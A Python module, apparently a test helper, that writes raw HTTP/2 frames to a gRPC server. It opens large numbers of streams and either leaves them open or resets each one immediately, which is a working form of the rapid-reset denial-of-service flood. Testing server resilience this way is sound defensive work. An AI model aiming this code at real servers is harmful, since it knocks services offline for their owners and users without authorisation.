"""Hand-made HTTP/2 frames (RFC 9113), for what no client library sends: streams without end, reset as they open."""

import contextlib
import socket
import struct
import time

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RST_STREAM, _SETTINGS, _ACK, _END_HEADERS = 1, 3, 4, 1, 4
_CANCEL = struct.pack(">I", 8)
_POST, _HTTP = b"\x83", b"\x86"  # HPACK's static table (RFC 7541, appendix A)
_STREAMS_AT_ONCE = 100
_TIMEOUT_S = 5.0
MAX_CONCURRENT_STREAMS = 3  # a setting


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def call_headers(path: str) -> bytes:
    """Return the header block of a gRPC call, in HPACK without Huffman coding."""
    return b"".join((_POST, _HTTP, b"\x04", _text(path), b"\x01", _text("attack"), _field("te", "trailers"),
                     _field("content-type", "application/grpc")))  # fmt: skip


def _field(name: str, value: str) -> bytes:
    return b"\x00" + _text(name) + _text(value)


def _text(text: str) -> bytes:
    return bytes((len(text),)) + text.encode()


def connect(host: str, port: int) -> socket.socket:
    """Return a connection on which streams may be opened."""
    connection = socket.create_connection((host, port), _TIMEOUT_S)
    connection.sendall(_PREFACE + frame(_SETTINGS, 0, 0))
    return connection


def acknowledge_settings(connection: socket.socket) -> dict[int, int]:
    """Read the server's first frame, acknowledge it, and return its settings by number."""
    head = _read(connection, 9)
    payload = _read(connection, int.from_bytes(head[:3], "big"))
    if head[3] != _SETTINGS:
        raise ConnectionError(f"the server's first frame is of type {head[3]}")
    connection.sendall(frame(_SETTINGS, _ACK, 0))
    return dict(struct.iter_unpack(">HI", payload))


def _read(connection: socket.socket, size: int) -> bytes:
    data = b""
    while len(data) < size:
        if not (part := connection.recv(size - len(data))):
            raise ConnectionError("the server closed the connection")
        data += part
    return data


def open_streams(connection: socket.socket, path: str, count: int, *, reset: bool, seconds: float) -> int:
    """Open at most ``count`` calls without a message, within ``seconds``, and return their number.

    ``reset``: reset each call at once; otherwise leave it open. Data from the server is discarded.
    """
    acknowledge_settings(connection)
    headers, sent, end = call_headers(path), 0, time.monotonic() + seconds
    with contextlib.suppress(OSError):
        while sent < count and time.monotonic() < end:
            data = bytearray()
            for number in range(sent, sent + _STREAMS_AT_ONCE):
                data += frame(_HEADERS, _END_HEADERS, 2 * number + 1, headers)
                if reset:
                    data += frame(_RST_STREAM, 0, 2 * number + 1, _CANCEL)
            connection.settimeout(_TIMEOUT_S)
            connection.sendall(data)
            sent += _STREAMS_AT_ONCE
            _discard(connection)
    return sent


def _discard(connection: socket.socket) -> None:
    connection.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while connection.recv(1 << 20):
            pass
